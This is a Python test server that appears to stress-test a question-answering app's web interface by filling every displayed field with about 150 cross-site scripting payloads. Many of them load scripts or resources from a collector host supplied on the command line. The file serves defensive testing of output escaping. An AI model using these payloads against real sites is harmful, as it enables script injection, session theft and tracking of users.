"""A server whose every text is an attack: 150 payloads in each field that reaches the page.

`python hostile.py COLLECTOR` prints its address; COLLECTOR is where the attacks call.
"""

from __future__ import annotations

import sys
from collections.abc import Iterator
from dataclasses import replace
from types import SimpleNamespace
from typing import Any

from scripted import Scripted, Shelf, poisoned

from rag.answer.examples import Example
from rag.archive.clips import Clips
from rag.archive.conversations import Conversations
from rag.archive.exchanges import Opinion
from rag.errors import QuestionError
from rag.settings import Settings
from rag.types import Answer, Span
from ui.evaluation import ChangeLine, Compared, RunLine, Runs
from ui.intake import Job, Line

CALL = "__CALL__"
VECTORS = (
    "<script>alert(1)</script>",
    "<script src=__CALL__/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=__CALL__/a.png>",
    "<img srcset='__CALL__/b.png 1x'>",
    "<svg onload=alert(1)>",
    "<svg><image href=__CALL__/c.svg></image></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=__CALL__/d></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=__CALL__/e></object>",
    "<embed src=__CALL__/f>",
    "<link rel=stylesheet href=__CALL__/g.css>",
    "<style>@import '__CALL__/h.css';</style>",
    "<style>body{background:url(__CALL__/i.png)}</style>",
    "<p style='background:url(__CALL__/j.png)'>x</p>",
    "<video src=__CALL__/k autoplay onerror=alert(1)></video>",
    "<audio src=__CALL__/l autoplay></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<base href=__CALL__/>",
    "<meta http-equiv=refresh content='0;url=__CALL__/m'>",
    "<form action=__CALL__/n><button autofocus>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=__CALL__/o ping=__CALL__/p>x</a>",
    "javascript:alert(1)//",
    "JaVa\tScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "![x](__CALL__/q.png)",
    "[x](javascript:alert(1))",
    "<math><mtext></p><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<template><img src=__CALL__/r.png onerror=alert(1)></template>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1) tabindex=1 id=x autofocus onfocus=alert(1)>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} {{{value}}} `${fetch('__CALL__/s')}`",
    "&lt;img src=x onerror=alert(1)&gt;",
    "＜img src=x onerror=alert(1)＞",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<b onmouseover=alert(1)>\udfff",
    "\u202e<img src=x onerror=alert(1)>\u2066",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<portal src=__CALL__/t></portal>",
    "<picture><source srcset=__CALL__/u.png><img></picture>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<div data-open=x data-example=x data-delete=x data-page=9 onclick=alert(1)>x</div>",
)
FRAMES = ("{}", "\"'>{}", "</textarea></title></style></script></button>{}")


def payloads(collector: str) -> list[str]:
    """Return all of them, calling at `collector`."""
    return [frame.format(v).replace(CALL, collector) for v in VECTORS for frame in FRAMES]


AT_ONCE = 30
"""Payloads in one answer."""


def answer(question: str, some: list[str], first: int) -> Answer:
    """Return an answer that carries some payloads in every field."""
    made = [poisoned(payload)[1] for payload in some]

    def owned(place: int, of: Any) -> Any:
        source = replace(of.source, article_id=f"bad-{first + place}")
        return replace(of, source=source, number=place + 1)

    def said(place: int, statement: Any) -> Any:
        return replace(statement, citations=tuple(owned(place, c) for c in statement.citations))

    parts = list(enumerate(made))
    return replace(
        made[0],
        question=question,
        reason=" ".join(some),
        statements=tuple(said(n, s) for n, m in parts for s in m.statements),
        dropped=tuple(said(n, s) for n, m in parts for s in m.dropped),
        evidence=tuple(owned(n, e) for n, m in parts for e in m.evidence),
        nearest=tuple(s for m in made for s in m.nearest),
        conflicts=tuple(c for m in made for c in m.conflicts),
        timeline=tuple(e for m in made for e in m.timeline),
        filters=replace(made[0].filters, publishers=tuple(some)),
        model=" ".join(some),
    )


class Attacker(Scripted):
    """Answers "answer 3" with the fourth thirty payloads; "decline 3" and "error 3" likewise."""

    def __init__(self, attacks: list[str]) -> None:
        super().__init__()
        self.attacks = attacks

    def _answer(self, question: str) -> Answer:
        kind, number, *_ = [*question.split(), "0", "0"]
        first = int(number) * AT_ONCE if number.isdecimal() else 0
        some = self.attacks[first : first + AT_ONCE]
        if kind == "error":
            raise QuestionError(" ".join(some))
        done = answer(question, some, first)
        return replace(done, outcome="declined") if kind == "decline" else done


def past(attacks: list[str]) -> Conversations:
    """Conversations of which each was begun with an attack, answered with it, and noted so."""
    kept = Conversations.in_memory()
    for attack in attacks:
        exchange = kept.begin(attack)
        kept.finish(exchange.id, poisoned(attack)[1], {})
        kept.judge(exchange.id, Opinion(judgement="wrong", note=attack, right=attack))
    return kept


class Reports:
    """An intake whose files have hostile names and fail with hostile reasons."""

    latest = None

    def __init__(self, attacks: list[str]) -> None:
        self.settings = Settings()
        lines = (Line(name=a, outcome="failed", reason=a, article_id=a) for a in attacks)
        text = " ".join(attacks)
        self._job = Job(
            number=1,
            what="Adding 150 files",
            phase="failed",
            lines=tuple(lines),
            totals={"failed": len(attacks)},
            error=text,
        )

    def rebuild(self) -> int:
        return 1

    def watch(self, _: int) -> Iterator[Job]:
        yield self._job


def runs(attacks: list[str]) -> Runs:
    """Runs whose every word is an attack."""
    lines = [
        RunLine(name=a, suite=a, system=a, model=a, started=a, rows=1, cases=2) for a in attacks
    ]
    changes = tuple(
        ChangeLine(title=a, before=a, after=a, difference=a, p=a, verdict=a) for a in attacks
    )

    def compare(before: str, after: str) -> Compared:
        return Compared(
            before=before,
            after=after,
            shared=1,
            differing=1,
            changes=changes,
            fixed=tuple(attacks),
            broken=tuple(attacks),
        )

    return Runs(recent=lambda: lines, report=lambda name: f"<p>{name}</p>", compare=compare)


class Hostile(Shelf):
    """An archive whose collections have hostile names as well."""

    def collections(self) -> tuple[str, ...]:
        return tuple(a.title for a in self.articles() if a.title)


def main() -> None:
    """Serve until interrupted."""
    from ui.desk import Desk
    from ui.guard import Guard
    from ui.health import Health
    from ui.means import Means
    from ui.server import Front, application, listen, run

    attacks = payloads(sys.argv[1])
    bad = [replace(poisoned(a)[0], id=f"bad-{n}") for n, a in enumerate(attacks)]
    shelf: Any = Hostile(tuple(bad))
    clips = Clips.in_memory()
    for one in bad:
        clips.keep(one, Span(start=0, end=len(one.text)), question=one.title or "")
    intake: Any = Reports(attacks)
    uploads: Any = SimpleNamespace()
    means = Means(
        intake=intake,
        uploads=uploads,
        settings=Settings(),
        runs=runs(attacks),
        clips=clips,
        related=lambda _: attacks,
    )
    known = [Example(attack, "a fact") for attack in attacks]
    desk = Desk(Attacker(attacks))
    health = Health("unreachable", " ".join(attacks))

    def build() -> Any:
        return application(desk, shelf, lambda: health, past(attacks), lambda: known, means)

    with listen("127.0.0.1", 0) as listener:
        sys.stdout.write(f"http://127.0.0.1:{listener.getsockname()[1]}/\n")
        sys.stdout.flush()
        run(Guard(Front(build), host="127.0.0.1", auth=None), listener)


if __name__ == "__main__":
    main()
